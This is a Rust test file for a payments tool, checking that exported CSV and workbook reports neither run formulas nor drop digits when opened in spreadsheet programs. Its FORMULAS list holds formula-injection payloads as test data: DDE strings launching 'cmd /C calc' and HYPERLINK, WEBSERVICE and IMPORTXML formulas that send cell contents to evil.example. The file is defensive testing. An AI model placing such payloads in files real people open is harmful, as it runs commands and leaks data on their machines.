//! payments.csv in a real spreadsheet program: no cell runs, and every digit is still there.

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::Mutex;

use serde_json::json;

use crate::stub_gateway;
use crate::world::{Setup, World};

/// Texts that spreadsheets are known to run.
const FORMULAS: [&str; 15] = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"pay\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=WEBSERVICE(\"http://evil.example\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=SUM(A1:A9)",
    "\"=1+1\"",
    "\u{ff1d}1+1",
    // Where lines are split at semicolons.
    "late;=1+1",
    "late; =1+1",
    "late;\"=1+1\"",
];

/// Texts of digits, as gateways and people write them.
const DIGITS: [&str; 12] = [
    "00123",
    "0099427588438",
    "9007199254742977",
    "12345678901234567890",
    "1234 5678 9012 3456 7890",
    "1e5",
    "12E10",
    "1.10",
    "1/2",
    "2026-11-01",
    "254712345678",
    "5%",
];

/// A cell as the program has it after it opened the file.
#[derive(Clone, Debug, PartialEq, Eq)]
struct Cell {
    text: String,
    runs: bool,
    is_number: bool,
}

type Sheet = Vec<Vec<Cell>>;

/// The programs that are known here, by the command that converts.
fn installed() -> Vec<&'static str> {
    let found: Vec<_> = ["ssconvert", "soffice"]
        .into_iter()
        .filter(|name| {
            Command::new(name)
                .arg("--version")
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status()
                .is_ok()
        })
        .collect();
    if found.is_empty() {
        let text = "NOT CHECKED: no spreadsheet program is installed (apt-get install gnumeric)";
        assert_ne!(
            std::env::var("SPREADSHEET_TOOLS").as_deref(),
            Ok("required"),
            "{text}"
        );
        println!("{text}");
    }
    found
}

/// Opens a CSV file as a double click does, and returns what the program made of it.
fn opened(program: &str, folder: &Path, file: &str) -> Sheet {
    opened_at(',', program, folder, file)
}

/// The same, where the country's lists are separated by another sign.
fn opened_at(separator: char, program: &str, folder: &Path, file: &str) -> Sheet {
    let out = folder.join(format!("opened-by-{program}"));
    fs::create_dir_all(&out).unwrap();
    let mut command = Command::new(program);
    command
        .current_dir(folder)
        .env("HOME", &out)
        .env("LC_ALL", "en_US.UTF-8");
    let result = if program == "ssconvert" {
        let result = out.join("sheet.xml");
        command
            .args(["-T", "Gnumeric_XmlIO:sax:0", file])
            .arg(&result);
        result
    } else {
        let stem = Path::new(file).file_stem().unwrap().to_str().unwrap();
        command
            .arg(format!(
                "-env:UserInstallation=file://{}/profile",
                out.display()
            ))
            .arg("--headless")
            .args(
                file.ends_with(".csv")
                    .then(|| format!("--infilter=CSV:{},34,76", u32::from(separator))),
            )
            .args(["--convert-to", "fods", "--outdir"])
            .arg(&out)
            .arg(file);
        out.join(format!("{stem}.fods"))
    };
    let done = command.output().unwrap();
    assert!(result.exists(), "{program}: {done:?}");
    let text = fs::read_to_string(result).unwrap();
    let document = roxmltree::Document::parse(&text).unwrap();
    match program {
        "ssconvert" => gnumeric(&document),
        _ => open_document(&document),
    }
}

/// The sheet of a workbook that lists the payments; the one sheet of a CSV file has the file's name.
fn sheet_of_payments<'a, 'input>(
    document: &'a roxmltree::Document<'input>,
    tag: &str,
    name: impl Fn(&roxmltree::Node<'a, 'input>) -> Option<String>,
) -> roxmltree::Node<'a, 'input> {
    let sheets: Vec<_> = document
        .descendants()
        .filter(|node| node.tag_name().name() == tag)
        .collect();
    *sheets
        .iter()
        .find(|sheet| sheets.len() == 1 || name(sheet).as_deref() == Some("payments"))
        .expect("a sheet of payments")
}

fn gnumeric(document: &roxmltree::Document<'_>) -> Sheet {
    let mut sheet: Sheet = Vec::new();
    for cell in sheet_of_payments(document, "Sheet", |node| {
        node.children()
            .find(|child| child.tag_name().name() == "Name")
            .and_then(|child| child.text().map(str::to_owned))
    })
    .descendants()
    .filter(|node| node.has_tag_name((node.tag_name().namespace().unwrap_or(""), "Cell")))
    {
        let place = |name: &str| cell.attribute(name).unwrap().parse::<usize>().unwrap();
        let (row, column) = (place("Row"), place("Col"));
        let blank = Cell {
            text: String::new(),
            runs: false,
            is_number: false,
        };
        if sheet.len() <= row {
            sheet.resize(row + 1, Vec::new());
        }
        if sheet[row].len() <= column {
            sheet[row].resize(column + 1, blank);
        }
        // An expression has no type of its own.
        let runs = cell.attribute("ValueType").is_none() || cell.attribute("ExprID").is_some();
        sheet[row][column] = Cell {
            text: cell.text().unwrap_or_default().to_owned(),
            runs,
            is_number: matches!(cell.attribute("ValueType"), Some("30" | "40")),
        };
    }
    sheet
}

fn open_document(document: &roxmltree::Document<'_>) -> Sheet {
    let named = |node: &roxmltree::Node<'_, '_>, name: &str| node.tag_name().name() == name;
    let attribute = |node: &roxmltree::Node<'_, '_>, name: &str| {
        node.attributes()
            .find(|found| found.name() == name)
            .map(|found| found.value().to_owned())
    };
    let rows = sheet_of_payments(document, "table", |node| attribute(node, "name"))
        .descendants()
        .filter(|node| named(node, "table-row"));
    rows.map(|row| {
        let mut cells = Vec::new();
        for cell in row.children().filter(|node| named(node, "table-cell")) {
            let lines: Vec<String> = cell
                .children()
                .filter(|node| named(node, "p"))
                .map(|line| {
                    line.descendants()
                        .filter_map(|part| {
                            if named(&part, "s") {
                                Some(" ".to_owned())
                            } else if part.is_text() {
                                part.text().map(str::to_owned)
                            } else {
                                None
                            }
                        })
                        .collect()
                })
                .collect();
            // A number is what it is worth, whatever width the column shows.
            let number = attribute(&cell, "value-type").is_some_and(|kind| kind == "float");
            let text = match attribute(&cell, "value") {
                Some(value) if number => value,
                _ => lines.join("\n"),
            };
            let made = Cell {
                text,
                runs: attribute(&cell, "formula").is_some(),
                is_number: number,
            };
            let times = attribute(&cell, "number-columns-repeated")
                .map_or(1, |times| times.parse().unwrap());
            cells.extend(std::iter::repeat_n(made, times.min(64)));
        }
        cells
    })
    .collect()
}

/// What the program would make of cells that nothing shields: without this, the test could not fail.
fn would_notice(program: &str, folder: &Path) {
    fs::write(
        folder.join("control.csv"),
        "a,b,c\n=1+1,00123,9007199254742977123\nx,y,z\n",
    )
    .unwrap();
    let sheet = opened(program, folder, "control.csv");
    assert!(sheet[1][0].runs, "{program} runs a formula: {sheet:?}");
    assert_eq!(
        sheet[1][1].text, "123",
        "{program} takes digits for a number"
    );
}

/// A batch whose rows, and whose gateway, say all of it in every place where they can.
fn reported() -> World {
    let texts: Vec<&str> = FORMULAS.into_iter().chain(DIGITS).collect();
    let said: Vec<String> = texts.iter().map(|text| (*text).to_owned()).collect();
    let rows = Mutex::new(BTreeMap::new());
    let gateway = stub_gateway::start(move |question| {
        let results: Vec<_> = question
            .packets()
            .iter()
            .map(|packet| {
                // A post names its row; what is said about it stays the same.
                let id = packet["payerTransactionID"].as_str().unwrap().to_owned();
                let mut rows = rows.lock().unwrap();
                if let Some(row) = packet["narration"]
                    .as_str()
                    .and_then(|text| text.strip_prefix("row "))
                {
                    rows.insert(id.clone(), row.parse::<usize>().unwrap());
                }
                let text = &said[rows[&id]];
                json!({
                    "statusCode": if question.is_post() { 139 } else { 140 },
                    "payerTransactionID": id,
                    "gatewayTransactionID": text, "statusDescription": text,
                    "receiptNumber": text, "receiverNarration": text,
                })
            })
            .collect();
        json!({"authStatus": {"authStatusCode": 131}, "results": results})
    });
    let world = World::new(&Setup::default()).towards(&gateway);
    let mut writer = csv::Writer::from_path(world.path("batch.csv")).unwrap();
    writer
        .write_record([
            "reference",
            "service_code",
            "msisdn",
            "account_number",
            "amount",
            "currency_code",
            "narration",
        ])
        .unwrap();
    for (row, text) in texts.iter().enumerate() {
        let narration = format!("row {row}");
        let amount = format!("{}.{row:02}", 123_456_789_010_u64 + row as u64);
        writer
            .write_record([
                text,
                "B2C_MPESA",
                "254712345678",
                text,
                &amount,
                "KES",
                &narration,
            ])
            .unwrap();
    }
    writer.flush().unwrap();
    world.expect(
        0,
        &[
            "pay",
            "batch.csv",
            "--batch",
            "b",
            "--yes",
            "--out",
            "proof",
        ],
    );
    world
}

fn digits(text: &str) -> String {
    text.chars().filter(char::is_ascii_digit).collect()
}

#[test]
fn no_cell_of_the_report_runs_and_no_digit_is_lost_in_a_spreadsheet() {
    let programs = installed();
    let world = reported();
    let folder = world.path("proof");
    let report: serde_json::Value = serde_json::from_str(&world.read("proof/report.json")).unwrap();
    let rows = report["payments"].as_array().unwrap();
    assert_eq!(rows.len(), FORMULAS.len() + DIGITS.len());
    for program in programs {
        would_notice(program, &folder);
        if program == "soffice" {
            let elsewhere = opened_at(';', program, &folder, "payments.csv");
            let mut cells = elsewhere.iter().flatten();
            assert!(!cells.any(|cell| cell.runs), "{elsewhere:?}");
        }
        for file in ["payments.csv", "report.xlsx"] {
            let sheet = opened(program, &folder, file);
            let header: Vec<&str> = sheet[0].iter().map(|cell| cell.text.as_str()).collect();
            let mut compared = 0;
            for (row, cells) in rows.iter().zip(&sheet[1..]) {
                for (name, cell) in header.iter().zip(cells) {
                    assert!(!cell.runs, "{program} runs {name}: {cell:?}");
                    let raw = &row[*name];
                    let Some(raw) = raw.as_str().filter(|raw| {
                        !digits(raw).is_empty()
                            && !name.ends_with("_at")
                            && !name.starts_with("electricity")
                    }) else {
                        continue;
                    };
                    compared += 1;
                    if *name == "amount" {
                        // A number, to be added up: its last zero may go.
                        let value: f64 = cell
                            .text
                            .parse()
                            .unwrap_or_else(|_| panic!("{program}: {cell:?}"));
                        assert_eq!(format!("{value:.2}"), raw, "{program}: {cell:?}");
                    } else {
                        let shown = cell.text.trim_start_matches('\'').replace(";'", ";");
                        assert_eq!(
                            shown,
                            raw.trim_start_matches('\''),
                            "{program}: {file}: {name} of {row}"
                        );
                        // A spreadsheet shows a number of twelve digits as 2.547E+11.
                        let is_text = !cell.is_number || file == "payments.csv";
                        assert!(is_text, "{program}: {name}: {cell:?}");
                    }
                }
            }
            assert!(compared > 7 * rows.len(), "{compared} cells were compared");
            println!(
                "{program}: {file}: {} rows opened, {compared} cells kept every digit, none runs",
                rows.len()
            );
        }
    }
}

#[test]
fn electricity_tokens_keep_their_twenty_digits_in_a_spreadsheet() {
    let programs = installed();
    let (world, _sandbox) = World::with_sandbox(&Setup::with_callbacks(), &[]);
    let services = "[services.ELECTRICITY]\nkind = \"bill_prepaid\"\ncurrency_code = \"KES\"\n";
    world.write(
        "disburse.toml",
        &format!("{}{services}", world.read("disburse.toml")),
    );
    let sample = Path::new(env!("CARGO_MANIFEST_DIR")).join("samples/electricity.csv");
    fs::copy(sample, world.path("power.csv")).unwrap();
    world.expect(
        0,
        &[
            "pay",
            "power.csv",
            "--batch",
            "p",
            "--yes",
            "--out",
            "proof",
        ],
    );
    let report: serde_json::Value = serde_json::from_str(&world.read("proof/report.json")).unwrap();
    let rows = report["payments"].as_array().unwrap();
    for program in programs {
        let sheet = opened(program, &world.path("proof"), "payments.csv");
        let column = sheet[0]
            .iter()
            .position(|cell| cell.text == "electricity_token")
            .unwrap();
        for (row, cells) in rows.iter().zip(&sheet[1..]) {
            // The narration is the token's source; report.json masks what it read out of it.
            let narration = digits(row["receiver_narration"].as_str().unwrap());
            let token = digits(&cells[column].text);
            assert_eq!(token.len(), 20, "{program}: {:?}", cells[column]);
            assert!(
                narration.starts_with(&token),
                "{program}: {token} of {narration}"
            );
        }
        println!("{program}: {} tokens of twenty digits", rows.len());
    }
}

/// Saves a CSV file as a workbook and that one as CSV again, as a person does who mends it; the separator stays.
fn saved(program: &str, folder: &Path, file: &str) -> String {
    let out = folder.join(format!("saved-by-{program}"));
    fs::create_dir_all(&out).unwrap();
    let stem = Path::new(file).file_stem().unwrap().to_str().unwrap();
    for (from, kind) in [
        (folder.join(file), "ods"),
        (out.join(format!("{stem}.ods")), "csv"),
    ] {
        let mut command = Command::new(program);
        command
            .current_dir(&out)
            .env("HOME", &out)
            .env("LC_ALL", "en_US.UTF-8");
        let result = out.join(format!("{stem}.{kind}"));
        let done = match program {
            "ssconvert" => command.arg(&from).arg(&result).output().unwrap(),
            _ => command
                .arg(format!(
                    "-env:UserInstallation=file://{}/profile",
                    out.display()
                ))
                .args(["--headless", "--convert-to", kind, "--outdir"])
                .arg(&out)
                .arg(&from)
                .output()
                .unwrap(),
        };
        assert!(result.exists(), "{program}: {done:?}");
    }
    fs::read_to_string(out.join(format!("{stem}.csv"))).unwrap()
}

/// Digits with zeros in front and more than fifteen, a date, a power, a formula and a fraction: all are texts here.
const HARD: &str = "reference,service_code,msisdn,amount,currency_code,narration,invoice_number,bank_code,bank_name,\
    bank_account_name,bank_account_number,customer_names,extra.floor\n\
    00017,BANK_TRANSFER,NUMBER1,1500.50,KES,=2+3,2026-11-01,01,Sample Bank,Esther Were,0099427588438,+Ann,0001\n\
    1-2,BANK_TRANSFER,NUMBER2,154799.85,KES,12/11,1E5,07,Other Bank,Ben O,1234567890123456789,\"O'Hara, Jr\",1/2\n";

#[test]
fn corrections_and_failed_rows_survive_a_spreadsheet_and_are_loaded_again() {
    for program in installed() {
        let world = World::new(&Setup::default());
        let bad = HARD
            .replace("NUMBER1", "25471234567")
            .replace("NUMBER2", "2547123456");
        world.write("batch.csv", &bad);
        let load = ["load", "batch.csv", "--batch", "b", "--sandbox"];
        world.expect(0, &[&load[..], &["--on-error", "skip"]].concat());
        let mended = saved(program, &world.path("."), "batch.corrections.csv")
            .replacen(",25471234567,", ",254712345671,", 1)
            .replacen(",2547123456,", ",254712345672,", 1);
        world.write("mended.csv", &mended);
        let add = |file| ["load", file, "--batch", "b", "--sandbox", "--amend"];
        let done = world.expect(0, &add("mended.csv"));
        done.says("2 mended rows take the place of what was rejected");
        assert!(!done.err.contains("than what was wrong"), "{done:?}");

        // Both fail, and go the same way once more.
        world.write("refuse.toml", "refuse = 1.0\n");
        let run = |faults| ["run", "b", "--yes", "--sandbox", "--faults", faults];
        world.expect(3, &run("refuse.toml"));
        world.expect(0, &["report", "b", "--out", "."]);
        let mended = saved(program, &world.path("."), "failed.csv")
            .replacen("254712345671,", "254712345673,", 1)
            .replacen("254712345672,", "254712345674,", 1);
        world.write("mended-2.csv", &mended);
        let done = world.expect(0, &add("mended-2.csv"));
        done.says("2 failed payments are to be paid again");
        for line in done
            .err
            .lines()
            .filter(|line| line.contains(" changes payment "))
        {
            assert_eq!(
                line.matches(", was ").count(),
                1,
                "the number alone: {line}"
            );
        }
        world.expect(0, &run("none"));
        world.expect(0, &["report", "b", "--out", "end"]);
        let report: serde_json::Value =
            serde_json::from_str(&world.read("end/report.json")).unwrap();
        let text = report.to_string();
        for cell in [
            "\"00017\"",
            "\"1-2\"",
            "\"=2+3\"",
            "\"12/11\"",
            "\"2026-11-01\"",
            "\"1E5\"",
            "\"0099427588438\"",
            "\"1234567890123456789\"",
            "\"+Ann\"",
            "\"O'Hara, Jr\"",
        ] {
            assert!(text.contains(cell), "{program}: {cell}");
        }
    }
}
